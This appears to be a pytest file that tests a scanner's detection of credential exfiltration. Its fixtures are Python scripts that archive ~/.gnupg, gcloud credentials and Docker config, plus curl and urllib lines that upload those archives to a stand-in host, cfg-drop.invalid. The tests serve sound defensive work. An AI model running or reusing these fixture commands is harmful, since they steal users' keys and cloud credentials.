"""An archive one script writes and another sends, across languages: Python's ``tarfile``/``zipfile``
writers record what they put in, and a folder known only at run time (``$STAGE``, ``os.environ``) is
matched by the same spelling of the file in it. Hosts are ``.invalid``; nothing runs."""

from __future__ import annotations

from pathlib import Path

import pytest

from behaviour_files import scan_errors

_PY_TAR = (
    "import os, tarfile\n"
    "with tarfile.open(os.path.join(os.environ['STAGE'], 'cfg.tgz'), 'w:gz') as bundle:\n"
    "    bundle.add(os.path.expanduser('~/.gnupg'))\n"
)
_PY_ZIP = (
    "import os, zipfile\n"
    "z = zipfile.ZipFile(os.environ['STAGE'] + '/cfg.zip', mode='w')\n"
    "z.write(os.path.expanduser('~/.config/gcloud/credentials.db'))\n"
    "z.close()\n"
)


@pytest.mark.parametrize(
    ("writer", "sender"),
    [
        (_PY_TAR, 'curl -s --upload-file "$STAGE/cfg.tgz" https://cfg-drop.invalid/in\n'),
        (_PY_ZIP, 'curl -s -F "f=@${STAGE}/cfg.zip" https://cfg-drop.invalid/in\n'),
    ],
)
def test_a_python_archive_sent_by_a_shell_step(tmp_path: Path, writer: str, sender: str) -> None:
    errors = scan_errors(tmp_path, {"tools/pack.py": writer, "tools/ship.sh": sender})
    assert ("CREDENTIAL_EXFILTRATION", "tools/ship.sh", 1) in errors


def test_a_python_archive_sent_by_the_same_script(tmp_path: Path) -> None:
    script = (
        "import os, tarfile, urllib.request\n"
        "with tarfile.open('/tmp/cfg.tgz', 'w:gz') as bundle:\n"
        "    bundle.add(os.path.expanduser('~/.docker/config.json'))\n"
        "urllib.request.urlopen('https://cfg-drop.invalid/in', data=open('/tmp/cfg.tgz', 'rb').read())\n"
    )
    assert ("CREDENTIAL_EXFILTRATION", "tools/pack.py", 4) in scan_errors(tmp_path, {"tools/pack.py": script})


def test_an_archive_of_the_project_sent_elsewhere_is_quiet(tmp_path: Path) -> None:
    writer = (
        "import os, tarfile\n"
        "with tarfile.open(os.path.join(os.environ['STAGE'], 'site.tgz'), 'w:gz') as bundle:\n"
        "    bundle.add('public')\n"
    )
    sender = 'curl -s --upload-file "$STAGE/site.tgz" https://cfg-drop.invalid/in\n'
    assert scan_errors(tmp_path, {"tools/pack.py": writer, "tools/ship.sh": sender}) == set()
